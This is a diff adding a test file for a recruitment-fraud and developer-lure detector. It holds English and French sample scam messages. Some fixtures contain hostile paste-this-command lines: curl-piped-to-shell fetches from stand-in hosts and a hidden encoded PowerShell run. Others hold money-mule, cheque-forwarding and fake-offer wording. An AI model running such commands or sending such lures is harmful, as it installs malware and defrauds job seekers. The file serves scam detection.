@@ -1,0 +1,362 @@
+"""Recruitment-fraud and developer-lure signals (RED-FLAGS 1d-1f): per-signal tables of
+(text, expected snippets) in English and French, the section 1f counterexamples, and the
+known misses of the earlier catalogue (paid travel, flattery, disclaimers, disguised apps)."""
+
+from __future__ import annotations
+
+import pandas as pd
+import pytest
+
+from recruitscore.schema import Approach
+from recruitscore.signals import REGISTRY, extract_signals, extract_signals_frame, get_signal
+
+from .assertions import assert_snippets_found, assert_spans_valid
+
+RISK = {s.name for s in REGISTRY if s.polarity == "risk"}
+
+# (signal, text, fields, expected snippets; None = must not fire)
+TABLE = [
+    # F1 offer without interview
+    ("offer_without_interview", "Congratulations you have been selected for the position of "
+     "remote assistant", {}, ["you have been selected for the position"]),
+    ("offer_without_interview", "ur CV was approved by our team, no interview required.", {},
+     ["CV was approved by", "no interview required"]),
+    ("offer_without_interview", "Vous avez été retenu pour le poste, le poste est à vous.", {},
+     ["retenu pour le poste", "le poste est à vous"]),
+    ("offer_without_interview", "Votre profil a été recommandé par plusieurs agences.", {},
+     ["recommandé par plusieurs agences"]),
+    ("offer_without_interview", "You've been selected for a first interview on Monday.", {},
+     None),
+    ("offer_without_interview", "Vous êtes retenue pour un entretien jeudi.", {}, None),
+    # F2 low-skill remote role
+    ("low_skill_remote_role", "Looking for a mystery shopper and data entry clerk.", {},
+     ["mystery shopper", "data entry"]),
+    ("low_skill_remote_role", "Recherche agent financier, saisie de données à domicile.", {},
+     ["agent financier", "saisie de données"]),
+    ("low_skill_remote_role", "We need a data engineer for our entry-level analytics team.", {},
+     None),
+    # F3 easy money
+    ("easy_money", "make 500€ a day, 2h per day, no skills needed", {},
+     ["500€ a day", "2h per day", "no skills needed"]),
+    ("easy_money", "Payé le jour même, formation offerte, liberté d'horaires.", {},
+     ["Payé le jour même", "formation offerte", "liberté d'horaires"]),
+    ("easy_money", "We offer flexible hours and a competitive salary.", {}, None),
+    # F4 pay to work
+    ("pay_to_work", "u must pay a registration fee of 50$ to activate your account", {},
+     ["u must pay a registration fee", "registration fee"]),
+    ("pay_to_work", "Send the deposit to secure your position today.", {},
+     ["deposit to secure your position"]),
+    ("pay_to_work", "Frais d'inscription : 30 €, à payer avant de commencer.", {},
+     ["Frais d'inscription"]),
+    ("pay_to_work", "We'll courier you a company laptop before day one.", {}, None),
+    ("pay_to_work", "We sponsor visas for this role.", {}, None),
+    ("pay_to_work", "There is no application fee, ever.", {}, None),
+    # F5 cheque forwarding
+    ("cheque_forwarding", "Deposit the cheque and wire the remainder to our supplier.", {},
+     ["Deposit the cheque", "wire the remainder"]),
+    ("cheque_forwarding", "Encaissez le chèque puis renvoyez le reste par virement.", {},
+     ["Encaissez le chèque", "renvoyez le reste"]),
+    ("cheque_forwarding", "Expenses are reimbursed monthly through payroll.", {}, None),
+    # F6 money mule
+    ("money_mule", "we just need to use your bank account to process client payments", {},
+     ["use your bank account", "process client payments"]),
+    ("money_mule", "Il faut faire transiter des fonds et garder votre commission.", {},
+     ["faire transiter des fonds", "garder votre commission"]),
+    ("money_mule", "Your salary is paid to your bank account monthly.", {}, None),
+    # F7 early identity request
+    ("early_identity_request", "Please upload a scan of your passport and your routing number.",
+     {}, ["upload a scan of your passport"]),
+    ("early_identity_request", "Envoyez-moi votre RIB et une photo de votre carte d'identité.",
+     {}, ["Envoyez-moi votre RIB"]),
+    ("early_identity_request", "Could you send me your updated CV?", {}, None),
+    ("early_identity_request", "Once you accept the offer, HR will ask for your passport via "
+     "our onboarding system.", {}, None),
+    # F8 chat-only interview
+    ("chat_only_interview", "Your interview will hold on telegrm, download the app and add me",
+     {}, ["interview will hold on telegrm"]),
+    ("chat_only_interview", "Entretien par écrit sur WhatsApp uniquement.", {},
+     ["Entretien par écrit"]),
+    ("chat_only_interview", "Join via this Teams link.", {}, None),
+    ("chat_only_interview", "I'll text you on WhatsApp to schedule a video interview.", {}, None),
+    # F9 freemail for a company
+    ("freemail_company_contact", "Talent acquisition, Northwind: write to tahq@yahoo.com",
+     {"sender_company": "Northwind Robotics"}, ["tahq@yahoo.com", "Talent acquisition"]),
+    ("freemail_company_contact", "Contact RH : recrutement.societe@gmail.com", {},
+     ["recrutement.societe@gmail.com"]),
+    ("freemail_company_contact", "I'm a freelancer, write to me at jo.freelance@gmail.com", {},
+     None),
+    # F11 task scam
+    ("task_scam", "App optimization job: boost apps, 40 tasks per set, recharge your account.",
+     {}, ["App optimization", "recharge your account"]),
+    ("task_scam", "Optimiseur d'applications : rechargez votre compte pour débloquer les tâches.",
+     {}, ["Optimiseur d'applications", "rechargez votre compte", "débloquer les tâches"]),
+    ("task_scam", "You'll own the product ratings service and its API.", {}, None),
+    # F12 account rental
+    ("account_rental", "Can we use your Upwork account? Monthly fee for your account.", {},
+     ["use your Upwork account", "Monthly fee for your account"]),
+    ("account_rental", "Nous passerons les entretiens à votre place.", {},
+     ["passerons les entretiens à votre place"]),
+    ("account_rental", "Log in with your GitHub account to see the exercise.", {}, None),
+    # F13 premium-rate number
+    ("premium_rate_number", "Ring 0871 234 5678 to confirm your interview slot.", {},
+     ["0871 234 5678"]),
+    ("premium_rate_number", "Appelez le 0 892 68 01 22 pour l'entretien.", {},
+     ["0 892 68 01 22"]),
+    ("premium_rate_number", "My mobile is 07700 900123 if easier.", {}, None),
+    # L1/L2 run our code
+    ("run_our_code", "pls git clone the project and run it locally before the interview", {},
+     ["git clone", "run it locally"]),
+    ("run_our_code", "Implement a CRUD endpoint into our existing codebase, then open it in "
+     "VS Code so we can screenshare.", {},
+     ["Implement a CRUD endpoint into our existing codebase", "open it in VS Code"]),
+    ("run_our_code", "Corrigez un bug dans notre projet puis lancez le projet.", {},
+     ["Corrigez un bug dans notre projet"]),
+    ("run_our_code", "After our call you'll get a 2-hour HackerRank exercise.", {}, None),
+    # L3 ad-hoc hosting only with L1/L2
+    ("adhoc_code_hosting", "Please review our codebase: https://gitlab.com/nova-chain/core", {},
+     ["https://gitlab.com/nova-chain/core"]),
+    ("adhoc_code_hosting", "Our team page is on bitbucket.org/acme-io/site.", {}, None),
+    ("adhoc_code_hosting", "Clone github.com/northwind/challenge and run npm install.",
+     {"sender_company_url": "https://northwind.com"}, None),
+    # L4 interview software
+    ("interview_software_download", "Please install the meeting client from our site to join.",
+     {}, ["install the meeting client"]),
+    ("interview_software_download", "Mettez à jour Zoom via ce lien pour rejoindre.", {},
+     ["Mettez à jour Zoom"]),
+    ("interview_software_download", "Join via this Teams link.", {}, None),
+    # L5 paste command
+    ("paste_command", "open terminal and paste: curl -fsSL https://x.example/fix | sh", {},
+     ["curl -fsSL https://x.example/fix | sh"]),
+    ("paste_command", "Run powershell -w hidden -enc SQBFAFgA to enable the camera.", {},
+     ["powershell -w hidden -enc"]),
+    ("paste_command", "Tapez cette commande dans le terminal : npm run fix", {},
+     ["Tapez cette commande dans le terminal"]),
+    ("paste_command", "Experience with Bash and PowerShell scripting is a plus.", {}, None),
+    # L6 web3 context
+    ("web3_pitch", "This Web3 role pays €90–110k, JD attached, can we schedule a call next "
+     "week?", {}, ["Web3"]),
+    ("web3_pitch", "Projet blockchain : MVP de tokenisation immobilière.", {}, ["blockchain"]),
+    ("web3_pitch", "Senior Java developer for our banking platform.", {}, None),
+    # L7 (file_lure extended)
+    ("file_lure", "The technical test is in the attached zip, password in url.txt", {},
+     ["technical test is in the attached zip", "url.txt"]),
+    ("file_lure", "Job description attached as a PDF.", {}, None),
+    # L8 assessment portal
+    ("assessment_portal", "Create an account and take the coding assessment to continue.", {},
+     ["coding assessment", "Create an account"]),
+    ("assessment_portal", "Coding test on CoderPad: https://app.coderpad.io/abc", {}, None),
+    # L9 secrets on device
+    ("secrets_on_device", "add your seed phrase to the .env file and run the tests", {},
+     ["seed phrase"]),
+    ("secrets_on_device", "Lancez le test sur votre ordinateur professionnel.", {},
+     ["sur votre ordinateur professionnel"]),
+    ("secrets_on_device", "Experience with key management and secrets rotation.", {}, None),
+    # benign counter-signals
+    ("company_pays_costs", "We provide all equipment and a relocation package.", {},
+     ["We provide all equipment", "relocation package"]),
+    ("company_pays_costs", "Aucun frais pour le candidat ; matériel fourni.", {},
+     ["Aucun frais pour le candidat"]),
+    ("standard_assessment_platform", "Next step: a Codility test, then a call with the team.",
+     {}, ["Codility"]),
+    ("standard_assessment_platform", "Exercice technique à faire chez vous après notre premier "
+     "échange.", {}, ["faire chez vous"]),
+    ("video_interview_offered", "Happy to do a video call or meet in person in Lyon.", {},
+     ["video call"]),
+    ("video_interview_offered", "On peut caler un appel rapide cette semaine ?", {},
+     ["caler un appel"]),
+]
+
+
+@pytest.mark.parametrize(("name", "text", "fields", "expected"), TABLE)
+def test_table(name, text, fields, expected) -> None:
+    approach = Approach.from_mapping({"message": text, **fields})
+    evidence = get_signal(name).detect(approach)
+    if expected is None:
+        assert evidence == (), [e.snippet for e in evidence]
+    else:
+        assert evidence, f"{name} did not fire on {text!r}"
+        hits = extract_signals(approach)
+        assert_spans_valid(approach, hits)
+        assert_snippets_found([e.snippet for e in evidence], expected, name)
+
+
+# RED-FLAGS 1f: illustrative counterexamples that must not raise any red flag (context and
+# benign signals may fire).
+COUNTEREXAMPLES_1F = [
+    "After our call you'll get a 2-hour HackerRank exercise.",
+    "Could you send me your updated CV?",
+    "We'll courier you a company laptop before day one.",
+    "We sponsor visas for this role.",
+    "Join via this Teams link.",
+    "This Web3 role pays €90–110k, JD attached, can we schedule a call next week?",
+]
+# A real take-home described on company careers pages (paraphrased): the Sketch careers FAQ
+# (sketch.com/about-us/open-positions/faqs/2-take-home-task/) and a published take-home brief
+# (philbert/take-home-tech-test): the candidate writes and pushes the code.
+CAREERS_PAGE_TAKE_HOME = [
+    "We often ask you to complete a practical exercise so we see how you work, communicate and "
+    "solve problems: a coding challenge, a short writing task, or a presentation you give in "
+    "your next interview.",
+    "Push the code you write to a public git repository of your choice (GitHub, Bitbucket, "
+    "GitLab...). Include a readme explaining how to run it. If we like your submission, we'll "
+    "invite you to a technical interview with our senior developers.",
+]
+
+
+@pytest.mark.parametrize("text", COUNTEREXAMPLES_1F + CAREERS_PAGE_TAKE_HOME)
+def test_benign_recruiting_raises_no_red_flag(text) -> None:
+    fired = {h.name for h in extract_signals(text)}
+    assert not fired & RISK, fired & RISK
+
+
+def test_1f_benign_signals_fire() -> None:
+    fired = [{h.name for h in extract_signals(t)} for t in COUNTEREXAMPLES_1F]
+    assert "standard_assessment_platform" in fired[0]
+    assert "company_pays_costs" in fired[2] and "company_pays_costs" in fired[3]
+    assert "video_interview_offered" in fired[4] and "video_interview_offered" in fired[5]
+    assert "web3_pitch" in fired[5]
+
+
+# Conjunctions of RED-FLAGS 1f: each fires all its parts.
+CONJUNCTIONS = [
+    ("Congratulations, you have been selected for the role! Send a copy of your ID and pay the "
+     "$80 training fee.", {"offer_without_interview", "early_identity_request", "pay_to_work"}),
+    ("Personal assistant job: we'll send you a check, deposit it and wire the balance to our "
+     "vendor.", {"low_skill_remote_role", "cheque_forwarding"}),
+    ("Like videos and rate products, commission per task, earn $200 a day, contact me on "
+     "Telegram.", {"task_scam", "easy_money", "off_platform_request"}),
+    ("Our DeFi MVP: clone https://bitbucket.org/dfx-labs/mvp and run npm install before our "
+     "call.", {"web3_pitch", "run_our_code", "adhoc_code_hosting"}),
+    ("Your camera is not detected: press Win+R and paste the fix, then rejoin the interview.",
+     {"interview_software_download", "paste_command"}),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), CONJUNCTIONS)
+def test_conjunctions(text, expected) -> None:
+    fired = {h.name for h in extract_signals(text)}
+    assert expected <= fired, expected - fired
+
+
+# Known misses of the earlier catalogue
+@pytest.mark.parametrize(("text", "name", "snippet"), [
+    ("I can cover your flights and hotel to meet my clients in Dubai.", "paid_travel",
+     "cover your flights and hotel"),
+    ("Nous prendrions en charge votre voyage et votre hôtel.", "paid_travel",
+     "prendrions en charge votre voyage"),
+    ("What an impressive profile!", "flattery", "impressive profile"),
+    ("Votre parcours m'a beaucoup impressionné.", "flattery", "m'a beaucoup impressionné"),
+])
+def test_known_misses_now_fire(text, name, snippet) -> None:
+    hits = {h.name: h for h in extract_signals(text)}
+    assert name in hits, text
+    assert_snippets_found([e.snippet for e in hits[name].evidence], [snippet], name)
+
+
+@pytest.mark.parametrize("text", [
+    "Please do not share any confidential information.",
+    "do not share any confidential information",
+    "You must not disclose internal roadmaps, unpublished results or classified data.",
+    "We will never ask for non-public or insider information.",
+    "Ne partagez aucune information confidentielle ni résultat non publié.",
+])
+def test_disclaimers_do_not_fire_elicitation(text) -> None:
+    assert "elicitation" not in {h.name for h in extract_signals(text)}
+
+
+def test_elicitation_still_fires_without_disclaimer() -> None:
+    fired = {h.name for h in extract_signals("Tell me about your unpublished results.")}
+    assert "elicitation" in fired
+    fired = {h.name for h in extract_signals("Don't hesitate to share your internal roadmap.")}
+    assert "elicitation" in fired
+
+
+@pytest.mark.parametrize(("spelled", "disguise"), [
+    ("whats app", False), ("Whats App", False), ("tele gram", False), ("Sig nal", False),
+    ("whatsap", False), ("watsapp", False), ("telegrm", False), ("telegramm", False),
+    ("ᴡʜᴀᴛsᴀᴘᴘ", True), ("ᴛᴇʟᴇɢʀᴀᴍ", True), ("ppastahw", True), ("margelet", True),
+])
+def test_disguised_app_names(spelled, disguise) -> None:
+    text = f"Add me on {spelled} pls"
+    hits = {h.name: h for h in extract_signals(text)}
+    assert "off_platform_request" in hits, text
+    assert any(spelled in e.snippet for e in hits["off_platform_request"].evidence)
+    assert_spans_valid(Approach(message=text), hits.values())
+    assert ("obfuscated_text" in hits) == disguise, text
+
+
+@pytest.mark.parametrize("text", ["We chat every morning as a team.", "Wei Xin leads the lab.",
+                                  "what's up?", "The telegraph office"])
+def test_app_spellings_do_not_overreach(text) -> None:
+    assert "off_platform_request" not in {h.name for h in extract_signals(text)}
+
+
+def test_both_paths_agree_on_the_new_tables() -> None:
+    rows = [{"message": t, **f} for _, t, f, _ in TABLE]
+    rows += [{"message": t} for t in COUNTEREXAMPLES_1F + CAREERS_PAGE_TAKE_HOME]
+    rows += [{"message": t} for t, _ in CONJUNCTIONS]
+    # more than the small-batch threshold, so the column path runs pyarrow's RE2 too
+    df = pd.DataFrame(rows * 2)
+    frame = extract_signals_frame(df)
+    for i, row in enumerate(df.to_dict("records")):
+        single = {h.name for h in extract_signals(row)}
+        assert single == {c for c in frame.columns if frame.iloc[i][c]}, row["message"]
+
+
+def test_every_signal_has_a_polarity_in_the_json_listing() -> None:
+    infos = [s.info() for s in REGISTRY]
+    assert all(i["polarity"] in {"risk", "benign", "context"} for i in infos)
+    by_name = {i["name"]: i["polarity"] for i in infos}
+    assert by_name["web3_pitch"] == "context"
+    assert by_name["company_pays_costs"] == "benign" == by_name["video_interview_offered"]
+    assert by_name["pay_to_work"] == "risk" == by_name["run_our_code"]
+
+
+def test_gate_groups_hold_message_only_pattern_signals() -> None:
+    from recruitscore.signals import GATE_GROUPS, PatternSignal
+
+    names = [n for g in GATE_GROUPS for n in g]
+    assert len(names) == len(set(names))
+    for n in names:
+        s = get_signal(n)
+        assert isinstance(s, PatternSignal) and tuple(s.patterns) == ("message",)
+        assert not s.on_original
+
+
+def test_gated_column_path_equals_each_signal_alone() -> None:
+    rows = [{"message": t} for _, t, _, _ in TABLE] * 3
+    df = pd.DataFrame(rows)
+    frame = extract_signals_frame(df)
+    from recruitscore.signals import GATE_GROUPS, make_batch
+
+    batch, _ = make_batch(df)
+    for name in (n for g in GATE_GROUPS for n in g):
+        alone = get_signal(name).detect_frame(batch)  # every row, no shared gate
+        assert (frame[name].to_numpy() == alone).all(), name
+
+
+# Informal first messages as strangers write them (illustrative, written for these tests): typos,
+# "u"/"ur", no punctuation. Each must raise at least the listed red flags.
+INFORMAL = [
+    ("Hello dear, we are hiring part time workers, earn 200-500 USD daily, just need a phone, "
+     "intrested? reply on whatsap", {"easy_money", "off_platform_request"}),
+    ("Congrats!! U have been hired as our remote admin assistant. we will mail u a check to buy "
+     "ur office equipment from our vendor",
+     {"offer_without_interview", "low_skill_remote_role", "cheque_forwarding", "pay_to_work"}),
+    ("Hey, we are building a web3 gaming platform. Before the interview could you pls clone our "
+     "repo from bitbucket and run it, theres a small bug we want u to fix",
+     {"run_our_code", "adhoc_code_hosting", "web3_pitch"}),
+    ("Hi, during our zoom the camera didnt work for you. Please run this in terminal to fix: "
+     "curl -k https://zoomfix.example/up.sh | bash",
+     {"interview_software_download", "paste_command"}),
+    ("Salut ! Ton profil a été retenu. Pour valider ton inscription il faut payer 30€ de frais de "
+     "dossier.", {"offer_without_interview", "pay_to_work"}),
+    ("Bonjour, poste en télétravail, 150€/jour, sans expérience, contactez moi sur WhatsApp",
+     {"easy_money", "off_platform_request"}),
+]
+
+
+@pytest.mark.parametrize(("text", "expected"), INFORMAL)
+def test_informal_messages(text, expected) -> None:
+    fired = {h.name for h in extract_signals(text)}
+    assert expected <= fired, expected - fired
